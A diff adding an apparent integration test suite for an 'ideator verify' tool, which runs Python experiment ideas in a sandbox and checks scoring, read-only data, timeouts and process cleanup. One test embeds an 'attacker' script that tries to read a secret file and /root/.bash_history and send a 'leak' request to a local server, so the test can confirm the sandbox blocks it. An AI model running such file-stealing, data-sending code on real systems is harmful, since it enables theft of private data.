@@ -1,0 +1,248 @@
+/**
+ * `ideator verify` (#16) with real Python runs in the real sandbox, driven through the editor's launcher
+ * (src/extension/ideas/verify.ts) and directly: a workspace whose train.py prints val_acc from IDEATOR_SEED and
+ * reads data/train.csv. Statuses and ranking against the baseline's noise (one better idea, one within the noise,
+ * one crashing) on 2 slots; the data folder bound read-only; an attacker that reads outside the workspace copy and
+ * uses the network is blocked; per-run timeout and the total budget; cancellation (abort, stdin closed, SIGKILL of
+ * the CLI) leaves no process behind.
+ */
+import { strict as assert } from 'node:assert';
+import { spawn, spawnSync } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { createInterface } from 'node:readline';
+import { sandboxHost } from '../../server/src/exec/isolation';
+import { verifyIdeas, type VerifyCli } from '../../src/extension/ideas/verify';
+import type { VerifyProgress, VerifyResult } from '../../src/core/verify';
+
+const REPO = resolve(__dirname, '..', '..');
+const PYTHON = join(REPO, '.venv', 'bin', 'python');
+const CLI: VerifyCli = { command: process.execPath, args: ['--import', 'tsx', join(REPO, 'server', 'src', 'cli.ts')], env: { IDEATOR_PYTHON: PYTHON } };
+const isolated = sandboxHost().isolated;
+/** Where ideator verify keeps its run folders (named PID-idea-…). */
+const WORK_ROOT = join(tmpdir(), 'ideator-verify');
+
+// Baseline seeds 0, 1, 2 print 0.81, 0.79, 0.80 (mean 0.80, std 0.01, noise threshold 0.01·√(4/3) ≈ 0.0115);
+// ideas run with seed 3 (k), offset +0.005.
+const TRAIN = (base: string, extra = '') =>
+  [
+    'import os, sys, time',
+    "seed = int(os.environ.get('IDEATOR_SEED', '0'))",
+    "rows = open('data/train.csv').read().splitlines()",
+    'offsets = [0.01, -0.01, 0.0, 0.005]',
+    extra,
+    "print(f'rows={len(rows)}')",
+    `print(f'val_acc={${base} + offsets[seed % 4]:.4f}')`,
+    '',
+  ].join('\n');
+
+function workspace(): { root: string; ws: string; secret: string } {
+  const root = mkdtempSync(join(tmpdir(), 'verify-it-'));
+  const ws = join(root, 'ws');
+  mkdirSync(join(ws, 'data'), { recursive: true });
+  writeFileSync(join(ws, 'train.py'), TRAIN('0.80'));
+  writeFileSync(join(ws, 'data', 'train.csv'), 'a,b\n1,2\n3,4\n');
+  const secret = join(root, 'secret.txt');
+  writeFileSync(secret, 'TOP-SECRET');
+  return { root, ws, secret };
+}
+
+function pgrep(pattern: string): string[] {
+  const r = spawnSync('pgrep', ['-af', pattern], { encoding: 'utf8' });
+  return r.stdout.split('\n').filter((l) => l.trim() && !l.includes('pgrep'));
+}
+
+async function until(cond: () => boolean, ms: number): Promise<boolean> {
+  const end = Date.now() + ms;
+  while (Date.now() < end) {
+    if (cond()) return true;
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  return cond();
+}
+
+describe('ideator verify', () => {
+  let server: Server;
+  let port: number;
+  const hits: string[] = [];
+  let dirs: string[] = [];
+  before(async () => {
+    server = createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.end('ok');
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+    port = (server.address() as AddressInfo).port;
+  });
+  after(() => {
+    server.close();
+    for (const d of dirs) rmSync(d, { recursive: true, force: true });
+    dirs = [];
+  });
+
+  it('ranks by measured score: better improved, a gain inside the noise within_noise, crashes failed; data read-only; an attacker blocked', { timeout: 120_000 }, async () => {
+    const { root, ws, secret } = workspace();
+    dirs.push(root);
+    const attacker = [
+      'import socket, sys',
+      'stolen = []',
+      `for p in [${JSON.stringify(secret)}, '../secret.txt', '/root/.bash_history']:`,
+      '    try:',
+      '        stolen.append(open(p).read())',
+      '    except Exception as e:',
+      "        print('read blocked:', p, type(e).__name__)",
+      'try:',
+      `    s = socket.create_connection(('127.0.0.1', ${port}), timeout=3)`,
+      "    s.sendall(b'GET /leak HTTP/1.0\\r\\n\\r\\n'); s.recv(10)",
+      "    stolen.append('net')",
+      'except Exception as e:',
+      "    print('network blocked:', type(e).__name__)",
+      "print('val_acc=0.99' if stolen else 'nothing stolen')",
+      'sys.exit(0 if stolen else 3)',
+      '',
+    ].join('\n');
+    const ideas = [
+      { id: 'better', title: 'Raise the base', code: TRAIN('0.90') },
+      { id: 'same', title: 'Add a comment', code: TRAIN('0.80', '# a harmless comment') },
+      { id: 'crash', title: 'Crash', code: TRAIN('0.80', "raise ValueError('boom')") },
+      { id: 'writer', title: 'Write to data', code: "open('data/train.csv', 'w').write('x')\nprint('val_acc=0.99')\n" },
+      { id: 'attacker', title: 'Steal', code: attacker },
+    ];
+    const progress: VerifyProgress[] = [];
+    const streamed: VerifyResult[] = [];
+    const { results, summary } = await verifyIdeas(
+      { workspace: ws, command: 'python train.py', ideas, slots: 2, budgetMinutes: 3, baselineSeeds: 3, python: PYTHON },
+      { cli: CLI, onProgress: (p) => progress.push(p), onResult: (r) => streamed.push(r) },
+    );
+    const by = Object.fromEntries(results.map((r) => [r.idea, r]));
+    assert.deepEqual(summary.baseline.scores, [0.81, 0.79, 0.8]);
+    assert.ok(Math.abs(summary.baseline.mean! - 0.8) < 1e-9 && summary.baseline.threshold > 0.011 && summary.baseline.threshold < 0.012, JSON.stringify(summary.baseline));
+    assert.equal(summary.metric, 'val_acc');
+    assert.equal(by.better.status, 'improved');
+    assert.equal(by.better.score, 0.905);
+    assert.equal(by.same.status, 'within_noise', 'a gain of 0.005 inside a noise of 0.0115 is no win');
+    assert.ok(by.same.delta! > 0);
+    assert.equal(by.crash.status, 'failed');
+    assert.match(by.crash.error!, /ValueError: boom/);
+    assert.match(by.better.diff, /^\+print\(f'val_acc=\{0\.90/m);
+    assert.deepEqual(summary.ranking.slice(0, 2), ['better', 'same']);
+    assert.deepEqual(summary.ranking.slice(2).sort(), ['attacker', 'crash', 'writer']);
+    assert.equal(streamed.length, 5);
+    assert.equal(progress.filter((p) => p.event === 'finished').length, 8);
+    assert.equal(summary.slots, 2);
+    assert.ok(summary.parallelRatio !== null && summary.runSeconds > 0);
+    assert.equal(summary.cancelled, false);
+    // Data is bound read-only: the idea that writes to it fails, the file is unchanged (without bubblewrap runs
+    // are not isolated, and the summary says so).
+    assert.equal(summary.sandbox.isolated, isolated);
+    if (isolated) {
+      assert.equal(readFileSync(join(ws, 'data', 'train.csv'), 'utf8'), 'a,b\n1,2\n3,4\n');
+      assert.equal(by.writer.status, 'failed');
+      assert.match(by.writer.error!, /Read-only file system/);
+      // The attacker reads nothing outside its copy and reaches no network.
+      assert.equal(by.attacker.status, 'failed', by.attacker.outputTail);
+      assert.match(by.attacker.outputTail, /nothing stolen/);
+      assert.match(by.attacker.outputTail, /network blocked/);
+      assert.deepEqual(hits, []);
+    }
+  });
+
+  it('times a run out at --timeout-sec and the rest at the total budget', { timeout: 120_000 }, async () => {
+    const { root, ws } = workspace();
+    dirs.push(root);
+    const sleeper = "import time\nprint('val_acc=0.99', flush=True)\ntime.sleep(120)\n";
+    const a = await verifyIdeas(
+      { workspace: ws, command: 'python train.py', ideas: [{ id: 'slow', code: sleeper }], slots: 1, budgetMinutes: 5, baselineSeeds: 1, timeoutSec: 2 },
+      { cli: CLI },
+    );
+    assert.equal(a.results[0].status, 'timed_out');
+    assert.ok(a.results[0].seconds >= 1.9 && a.results[0].seconds < 5, String(a.results[0].seconds));
+    assert.equal(a.results[0].score, null, 'a printed score of a run that did not finish does not count');
+
+    const started = Date.now();
+    const b = await verifyIdeas(
+      { workspace: ws, command: 'python train.py', ideas: [{ id: 'first', code: sleeper }, { id: 'second', code: sleeper }], slots: 1, budgetMinutes: 0.1, baselineSeeds: 1 },
+      { cli: CLI },
+    );
+    const byId = Object.fromEntries(b.results.map((r) => [r.idea, r]));
+    assert.equal(byId.first.status, 'timed_out');
+    assert.equal(byId.second.status, 'timed_out');
+    assert.equal(byId.second.seconds, 0);
+    assert.match(byId.second.error!, /budget ran out before it started/);
+    assert.ok(b.summary.wallSeconds < 6 + 2, `the whole verification keeps to its 6 s budget: ${b.summary.wallSeconds}`);
+    assert.ok(Date.now() - started < 20_000);
+  });
+
+  it('cancel (abort) kills every run at once and leaves no process', { timeout: 60_000 }, async () => {
+    const { root, ws } = workspace();
+    dirs.push(root);
+    const marker = `vmark${randomUUID().slice(0, 8)}`;
+    const sleeper = "import time\nprint('working', flush=True)\ntime.sleep(120)\n";
+    const ac = new AbortController();
+    let abortedAt = 0;
+    const done = verifyIdeas(
+      { workspace: ws, command: `python train.py ${marker}`, ideas: [{ id: 's1', code: sleeper }, { id: 's2', code: sleeper }], slots: 2, budgetMinutes: 5, baselineSeeds: 1 },
+      {
+        cli: CLI,
+        signal: ac.signal,
+        onProgress: (p) => {
+          if (p.phase === 'idea' && p.event === 'started' && p.idea === 's2') {
+            setTimeout(() => {
+              abortedAt = Date.now();
+              ac.abort();
+            }, 1500);
+          }
+        },
+      },
+    );
+    assert.ok(await until(() => pgrep(`^python train.py ${marker}`).length >= 2, 30_000), 'both runs are going');
+    const { summary, results } = await done;
+    assert.equal(summary.cancelled, true);
+    assert.deepEqual(results, [], 'no idea is judged from a killed run');
+    assert.ok(Date.now() - abortedAt < 5000, 'stopped promptly');
+    assert.ok(await until(() => pgrep(marker).length === 0, 3000), `left behind: ${pgrep(marker).join('\n')}`);
+  });
+
+  it('stdin closing (--watch-stdin) or a SIGKILL of the CLI itself leaves no run behind; the next verification removes what a killed one left', { timeout: 90_000 }, async () => {
+    const { root, ws } = workspace();
+    dirs.push(root);
+    writeFileSync(join(root, 'ideas.json'), JSON.stringify([{ id: 'slow', code: "import time\nprint('working', flush=True)\ntime.sleep(120)\n" }]));
+    let killedPid: number | undefined;
+    for (const how of ['stdin', 'sigkill'] as const) {
+      const marker = `vmark${randomUUID().slice(0, 8)}`;
+      const child = spawn(CLI.command, [...CLI.args, 'verify', '--json', '--watch-stdin', '--workspace', ws, '--command', `python train.py ${marker}`, '--ideas', join(root, 'ideas.json'), '--baseline-seeds', '1'], {
+        env: { ...process.env, ...CLI.env },
+        stdio: ['pipe', 'pipe', 'pipe'],
+      });
+      const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)));
+      const lines = createInterface({ input: child.stdout });
+      await new Promise<void>((r) => lines.on('line', (l) => (l.includes('"event":"started","idea":"slow"') ? r() : undefined)));
+      assert.ok(await until(() => pgrep(`^python train.py ${marker}`).length === 1, 20_000), `${how}: the run is going`);
+      if (how === 'stdin') child.stdin.end();
+      else child.kill('SIGKILL');
+      const code = await exited;
+      if (how === 'stdin') assert.equal(code, 130);
+      assert.ok(await until(() => pgrep(marker).length === 0, 5000), `${how}: left behind: ${pgrep(marker).join('\n')}`);
+      if (how === 'sigkill') killedPid = child.pid;
+    }
+    // The killed CLI could not remove its run folder (a tmpfs as root): the next verification does.
+    const leftover = () => readdirSync(WORK_ROOT).filter((n) => n.startsWith(`${killedPid}-`));
+    assert.equal(leftover().length, 1);
+    const next = await verifyIdeas({ workspace: ws, command: 'python train.py', ideas: [{ code: TRAIN('0.9') }], slots: 1, budgetMinutes: 1, baselineSeeds: 1 }, { cli: CLI });
+    assert.equal(next.results[0].status, 'improved');
+    assert.deepEqual(leftover(), []);
+    assert.ok(!readFileSync('/proc/self/mounts', 'utf8').includes(`${WORK_ROOT}/${killedPid}-`), 'its tmpfs is unmounted');
+  });
+
+  it('a refused input rejects with the CLI\'s one-line reason', { timeout: 30_000 }, async () => {
+    await assert.rejects(
+      verifyIdeas({ workspace: '/nonexistent/ws', command: 'python train.py', ideas: [{ code: 'x' }], slots: 1, budgetMinutes: 1 }, { cli: CLI }),
+      /no such folder: \/nonexistent\/ws/,
+    );
+  });
+});
